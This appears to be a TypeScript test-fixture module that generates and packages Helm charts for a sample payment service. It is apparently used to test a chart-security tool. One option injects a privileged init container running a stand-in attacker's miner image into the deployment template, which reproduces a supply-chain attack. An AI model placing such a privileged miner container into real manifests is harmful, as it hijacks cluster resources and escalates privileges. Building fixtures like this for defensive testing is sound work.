// Helm charts generated at run time: a small "payment" service chart, optionally with the attacker's
// privileged init container (the seed scenario), packaged (and optionally signed) with the real helm binary.
import { mkdir, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { runTool } from './run-tool.ts';
import type { ToolHome } from './tool-home.ts';

export interface ChartOptions {
  name?: string;
  version?: string;
  /** Adds a privileged init container running a miner, as in the attack this project answers. */
  maliciousInitContainer?: boolean;
  /** Extra files under templates/ (file name → content). */
  templates?: Record<string, string>;
  /** Appended to values.yaml. */
  extraValues?: string;
  /** Leaves out the default deployment template. */
  withoutDeployment?: boolean;
  /** Subcharts vendored under charts/, packaged as .tgz (default) or as directories. */
  subcharts?: SubchartOptions[];
  /** `helm package --sign --key <key> --keyring <keyring>`: a .prov beside the .tgz (legacy secret keyring). */
  sign?: { key: string; keyring: string };
}

export interface SubchartOptions {
  name: string;
  version?: string;
  /** A library chart provides named templates only. */
  type?: 'application' | 'library';
  /** Files under templates/ (file name → content). */
  templates: Record<string, string>;
  values?: string;
  /** false: vendored as a directory charts/<name>/ instead of charts/<name>-<version>.tgz. */
  packaged?: boolean;
}

const deployment = (malicious: boolean): string => `apiVersion: apps/v1
kind: Deployment
metadata:
  name: {{ .Release.Name }}
spec:
  replicas: {{ .Values.replicas }}
  selector:
    matchLabels: {app: {{ .Release.Name }}}
  template:
    metadata:
      labels: {app: {{ .Release.Name }}}
    spec:
${
  malicious
    ? `      initContainers:
        - name: setup
          image: ghcr.io/attacker/miner:latest
          securityContext: {privileged: true}
`
    : ''
}      containers:
        - name: app
          image: "{{ .Values.image }}"
          securityContext: {runAsNonRoot: true, allowPrivilegeEscalation: false}
`;

const writeSubchart = async (home: ToolHome, chartsDir: string, sub: SubchartOptions): Promise<void> => {
  const dir = join(chartsDir, sub.name);
  const version = sub.version ?? '0.1.0';
  await mkdir(join(dir, 'templates'), { recursive: true });
  await writeFile(
    join(dir, 'Chart.yaml'),
    `apiVersion: v2\nname: ${sub.name}\nversion: ${version}\ntype: ${sub.type ?? 'application'}\n`,
  );
  await writeFile(join(dir, 'values.yaml'), sub.values ?? '{}\n');
  for (const [file, content] of Object.entries(sub.templates)) {
    await writeFile(join(dir, 'templates', file), content);
  }
  if (sub.packaged === false) return;
  await runTool('helm', ['package', dir, '--destination', chartsDir], { env: home.env });
  await rm(dir, { recursive: true });
};

/** Writes a chart directory and packages it; returns the path of the .tgz. */
export const packageChart = async (
  home: ToolHome,
  dir: string,
  options: ChartOptions = {},
): Promise<string> => {
  const name = options.name ?? 'payment';
  const version = options.version ?? '3.1.0';
  const chartDir = join(dir, `${name}-src-${Math.random().toString(36).slice(2, 8)}`, name);
  await mkdir(join(chartDir, 'templates'), { recursive: true });
  await writeFile(
    join(chartDir, 'Chart.yaml'),
    `apiVersion: v2\nname: ${name}\nversion: ${version}\ntype: application\n`,
  );
  await writeFile(
    join(chartDir, 'values.yaml'),
    'replicas: 2\nimage: registry.example.com/payment@sha256:' + '0'.repeat(64) + '\n',
  );
  if (options.withoutDeployment !== true) {
    await writeFile(
      join(chartDir, 'templates', 'deployment.yaml'),
      deployment(options.maliciousInitContainer ?? false),
    );
  }
  if (options.extraValues !== undefined) {
    await writeFile(join(chartDir, 'values.yaml'), `\n${options.extraValues}\n`, { flag: 'a' });
  }
  for (const [file, content] of Object.entries(options.templates ?? {})) {
    await writeFile(join(chartDir, 'templates', file), content);
  }
  for (const sub of options.subcharts ?? []) await writeSubchart(home, join(chartDir, 'charts'), sub);
  const out = join(dir, `packaged-${Math.random().toString(36).slice(2, 8)}`);
  await mkdir(out, { recursive: true });
  const sign = options.sign ? ['--sign', '--key', options.sign.key, '--keyring', options.sign.keyring] : [];
  await runTool('helm', ['package', chartDir, '--destination', out, ...sign], { env: home.env });
  return join(out, `${name}-${version}.tgz`);
};
